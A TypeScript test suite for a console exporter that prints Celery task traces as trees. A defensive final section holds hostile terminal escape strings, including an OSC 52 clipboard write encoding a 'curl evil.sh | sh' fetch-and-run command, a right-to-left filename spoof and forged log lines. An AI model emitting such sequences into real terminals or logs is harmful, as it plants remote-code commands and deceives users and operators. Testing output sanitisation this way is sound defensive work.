import { ExportResultCode } from '@opentelemetry/core';
import { resourceFromAttributes } from '@opentelemetry/resources';
import type { ReadableSpan } from '@opentelemetry/sdk-trace-base';
import { describe, expect, it } from 'vitest';
import type { Attempt, FinishedTask, TaskRecord } from '../../src/assemble/TaskRecord.js';
import { ConsoleTraceExporter, useColor } from '../../src/export/ConsoleTraceExporter.js';
import { formatDuration, renderTraceTree } from '../../src/export/renderTraceTree.js';
import { taskSpans, type TaskSpanOptions } from '../../src/export/taskSpans.js';

const OPTIONS: TaskSpanOptions = {
  resource: resourceFromAttributes({ 'service.name': 'console-test' }),
  scope: { name: 'test' },
  messagingSystem: 'rabbitmq',
  maxAttributeLength: 32768,
  maxCapturedLength: 1024,
};

const ROOT = '11111111-1111-4111-8111-111111111111';
const CHILD = '22222222-2222-4222-8222-222222222222';
const GRANDCHILD = '33333333-3333-4333-8333-333333333333';
const T0 = 1_800_000_000;

const TRACEBACK = [
  'Traceback (most recent call last):',
  '  File "proj.py", line 1, in _inner',
  'ValueError: boom',
  '',
  'The above exception was the direct cause of the following exception:',
  '',
  'Traceback (most recent call last):',
  '  File "proj.py", line 9, in fail',
  'RuntimeError: payment step failed',
  '',
].join('\n');

function task(
  id: string,
  name: string,
  options: {
    root?: string;
    parent?: string;
    sent: number;
    attempts: Attempt[];
    state?: 'SUCCESS' | 'FAILURE';
    end: number;
    traceback?: string;
    retries?: number;
  },
): ReadableSpan[] {
  const record: TaskRecord = {
    id,
    name,
    rootId: options.root ?? id,
    parentId: options.parent,
    queue: 'celery',
    sentAt: options.sent,
    receivedTimes: [options.sent],
    lastEventAt: options.end,
    attempts: options.attempts,
    retries: options.retries,
    final:
      options.state === undefined
        ? undefined
        : {
            state: options.state,
            at: options.end,
            exception:
              options.state === 'FAILURE' ? "RuntimeError('payment step failed')" : undefined,
            traceback: options.traceback,
          },
  };
  const finished: FinishedTask = { record, completeness: 'complete' };
  return taskSpans(finished, OPTIONS);
}

const ok = (start: number, end: number): Attempt => ({
  startedAt: start,
  endedAt: end,
  outcome: 'SUCCESS',
  hostname: 'w1@host',
});

function chain(): ReadableSpan[][] {
  return [
    task(ROOT, 'proj.add', {
      sent: T0,
      attempts: [ok(T0 + 0.01, T0 + 0.05)],
      state: 'SUCCESS',
      end: T0 + 0.05,
    }),
    task(CHILD, 'proj.mul', {
      root: ROOT,
      parent: ROOT,
      sent: T0 + 0.05,
      attempts: [ok(T0 + 0.06, T0 + 0.1)],
      state: 'SUCCESS',
      end: T0 + 0.1,
    }),
    task(GRANDCHILD, 'proj.fail', {
      root: ROOT,
      parent: CHILD,
      sent: T0 + 0.1,
      attempts: [
        {
          startedAt: T0 + 0.2,
          endedAt: T0 + 0.25,
          outcome: 'FAILURE',
          hostname: 'w1@host',
          traceback: TRACEBACK,
        },
      ],
      state: 'FAILURE',
      end: T0 + 0.25,
      traceback: TRACEBACK,
    }),
  ];
}

describe('renderTraceTree', () => {
  it('nests each task under its parent, with state, duration, queue wait and the traceback line', () => {
    const text = renderTraceTree(chain().flat(), { color: false, reason: 'complete' });
    expect(text.split('\n')).toEqual([
      `trace ${ROOT.replace(/-/g, '')} · proj.add · 3 tasks · 250ms · ${new Date(T0 * 1000).toISOString()}`,
      'proj.add SUCCESS 50ms · queued 10ms · queue celery',
      '└─ proj.mul SUCCESS 50ms · queued 10ms',
      '   └─ proj.fail FAILURE 150ms · queued 100ms',
      '            RuntimeError: payment step failed',
      '',
    ]);
  });

  it('lists the attempts of a retried task with what each retry raised', () => {
    const retry = (start: number, n: number): Attempt => ({
      startedAt: start,
      endedAt: start + 0.01,
      outcome: 'RETRY',
      hostname: 'w1@host',
      exception: `ConnectionError('transient, try ${n}')`,
      traceback: `Traceback...\ncelery.exceptions.Retry: Retry in 0.2s: ConnectionError('transient, try ${n}')\n`,
    });
    const spans = task(ROOT, 'proj.flaky', {
      sent: T0,
      attempts: [retry(T0 + 0.001, 0), retry(T0 + 0.3, 1), ok(T0 + 0.6, T0 + 0.61)],
      state: 'SUCCESS',
      end: T0 + 0.61,
      retries: 2,
    });
    const lines = renderTraceTree(spans, { color: false, reason: 'complete' }).split('\n');
    expect(lines.slice(1, 5)).toEqual([
      'proj.flaky SUCCESS 610ms · queued 1000µs · 3 attempts · 2 retries · queue celery',
      "├─ attempt 1 RETRY 10ms on w1@host · celery.exceptions.Retry: Retry in 0.2s: ConnectionError('transient, try 0')",
      "├─ attempt 2 RETRY 10ms on w1@host · celery.exceptions.Retry: Retry in 0.2s: ConnectionError('transient, try 1')",
      '└─ attempt 3 SUCCESS 10ms on w1@host',
    ]);
  });

  it('colours states only when asked, and says why a trace was printed early', () => {
    const spans = chain().flat();
    const coloured = renderTraceTree(spans, { color: true, reason: 'complete' });
    expect(coloured).toContain('\x1b[32mSUCCESS\x1b[0m');
    expect(coloured).toContain('\x1b[31mFAILURE\x1b[0m');
    expect(renderTraceTree(spans, { color: false, reason: 'complete' })).not.toContain('\x1b[');
    expect(renderTraceTree(spans, { color: false, reason: 'max_wait' }).split('\n')[0]).toContain(
      'the root task or a parent never arrived',
    );
  });

  it('formats durations for people', () => {
    expect(formatDuration(0.0004)).toBe('400µs');
    expect(formatDuration(0.0123)).toBe('12ms');
    expect(formatDuration(1.234)).toBe('1.23s');
    expect(formatDuration(125)).toBe('2m05s');
  });
});

describe('ConsoleTraceExporter', () => {
  function setup(overrides: { maxTraces?: number } = {}) {
    let now = 0;
    const printed: string[] = [];
    const exporter = new ConsoleTraceExporter({
      write: (text) => printed.push(text),
      color: false,
      quietMs: 2000,
      maxWaitMs: 60_000,
      checkIntervalMs: 1_000_000,
      now: () => now,
      ...overrides,
    });
    const exportSpans = (spans: ReadableSpan[]): void => {
      exporter.export(spans, (result) => expect(result.code).toBe(ExportResultCode.SUCCESS));
    };
    const advance = (ms: number): void => {
      now += ms;
      exporter.check();
    };
    return { exporter, printed, exportSpans, advance };
  }

  it('prints a trace once its root is in and no span came for the quiet time', async () => {
    const { exporter, printed, exportSpans, advance } = setup();
    const [root, child, grandchild] = chain();
    exportSpans(root ?? []);
    advance(1500);
    exportSpans(child ?? []);
    advance(1999);
    expect(printed).toEqual([]);
    exportSpans(grandchild ?? []);
    advance(2000);
    expect(printed).toHaveLength(1);
    expect(printed[0]).toContain('3 tasks');
    expect(exporter.pendingTraces).toBe(0);
    await exporter.shutdown();
  });

  it('waits for the root and for missing parents, up to the maximum wait', async () => {
    const { exporter, printed, exportSpans, advance } = setup();
    const [, child, grandchild] = chain();
    exportSpans(grandchild ?? []);
    exportSpans(child ?? []);
    advance(30_000);
    expect(printed).toEqual([]);
    advance(30_000);
    expect(printed).toHaveLength(1);
    expect(printed[0]).toContain('printed after the maximum wait');
    expect(printed[0]).toContain(
      'proj.mul SUCCESS 50ms · queued 10ms · queue celery · parent task not seen',
    );
    await exporter.shutdown();
  });

  it('prints spans that arrive after their trace as a continuation', async () => {
    const { exporter, printed, exportSpans, advance } = setup();
    const [root, child] = chain();
    exportSpans(root ?? []);
    advance(2000);
    exportSpans(child ?? []);
    advance(2000);
    expect(printed).toHaveLength(2);
    expect(printed[1]).toContain('continued: spans that arrived after it was printed');
    expect(printed[1]).not.toContain('parent task not seen');
    await exporter.shutdown();
  });

  it('bounds the traces it holds and prints everything at shutdown', async () => {
    const { exporter, printed, exportSpans } = setup({ maxTraces: 2 });
    const ids = [ROOT, CHILD, GRANDCHILD];
    for (const id of ids) {
      exportSpans(
        task(id, 'proj.add', {
          sent: T0,
          attempts: [ok(T0, T0 + 0.01)],
          state: 'SUCCESS',
          end: T0 + 0.01,
        }),
      );
    }
    expect(printed).toHaveLength(1);
    expect(printed[0]).toContain(`trace ${ROOT.replace(/-/g, '')}`);
    expect(printed[0]).toContain('printed early: too many traces waiting');
    expect(exporter.pendingTraces).toBe(2);
    await exporter.shutdown();
    expect(printed).toHaveLength(3);
    expect(exporter.pendingTraces).toBe(0);
  });
});

describe('useColor', () => {
  it('colours a terminal unless NO_COLOR is set, never a pipe', () => {
    expect(useColor({ isTTY: true }, {})).toBe(true);
    expect(useColor({ isTTY: true }, { NO_COLOR: '1' })).toBe(false);
    expect(useColor({ isTTY: true }, { NO_COLOR: '' })).toBe(true);
    expect(useColor({}, {})).toBe(false);
  });
});

/** Terminal controls and invisible/bidi format characters: none may come from event data. */
const RAW_CONTROLS =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u;

describe('console output of hostile events', () => {
  const hostile = [
    '\x1b[2J\x1b[H', // clear screen
    '\x1b]0;owned\x07', // window title
    '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // OSC 52 clipboard write
    '\x1b[8mhidden\x1b[0m',
    '\u009b31m', // C1 CSI
    '\u202egnp.exe', // right-to-left override
    'forged\r\ntrace 0000 · fake line',
    '\x7f\x08\t',
  ].join('|');

  it('escapes every control character from names, hosts, queues and exception lines', () => {
    const spans = task(ROOT, `proj.${hostile}`, {
      sent: T0,
      attempts: [
        { ...ok(T0 + 0.01, T0 + 0.02), hostname: `w@${hostile}`, outcome: 'RETRY' },
        {
          startedAt: T0 + 0.03,
          endedAt: T0 + 0.05,
          outcome: 'FAILURE',
          hostname: 'w1@host',
          traceback: `Traceback:\nValueError: ${hostile}`,
        },
      ],
      state: 'FAILURE',
      end: T0 + 0.05,
      traceback: `Traceback:\nValueError: ${hostile}`,
    });
    for (const color of [false, true]) {
      let text = renderTraceTree(spans, { color, reason: 'complete' });
      // Our own colours are the only escape sequences allowed, and only with color on.
      // eslint-disable-next-line no-control-regex
      if (color) text = text.replace(/\x1b\[(?:[0-9]|[0-9][0-9])m/g, '');
      expect(text).not.toMatch(RAW_CONTROLS);
      expect(text).toContain('\\x1b]52;c;');
      expect(text).toContain('\\u{202e}gnp.exe');
      expect(text.split('\n').some((line) => line.startsWith('trace 0000'))).toBe(false);
    }
  });

  it('prints a trace whose timestamps no Date can hold, and reports a trace it cannot render', () => {
    const printed: string[] = [];
    const errors: string[] = [];
    const exporter = new ConsoleTraceExporter({
      write: (text) => printed.push(text),
      color: false,
      onError: (where) => errors.push(where),
    });
    const spans = task(ROOT, 'proj.future', {
      sent: 1e13,
      attempts: [ok(1e13 + 1, 1e13 + 2)],
      state: 'SUCCESS',
      end: 1e13 + 2,
    });
    exporter.export(spans, () => undefined);
    const broken = task(CHILD, 'proj.broken', {
      sent: T0,
      attempts: [ok(T0, T0 + 1)],
      state: 'SUCCESS',
      end: T0 + 1,
    });
    // A span the renderer cannot read: a bug must cost this trace's tree, not the process.
    Object.defineProperty(broken[0], 'name', {
      get: () => {
        throw new Error('unreadable');
      },
    });
    exporter.export(broken, () => undefined);
    expect(() => exporter.check()).not.toThrow();
    void exporter.shutdown();
    expect(printed.join('')).toContain('proj.future SUCCESS');
    expect(printed.join('')).toContain('spans that could not be printed (see the log)');
    expect(errors).toEqual(['console']);
  });
});
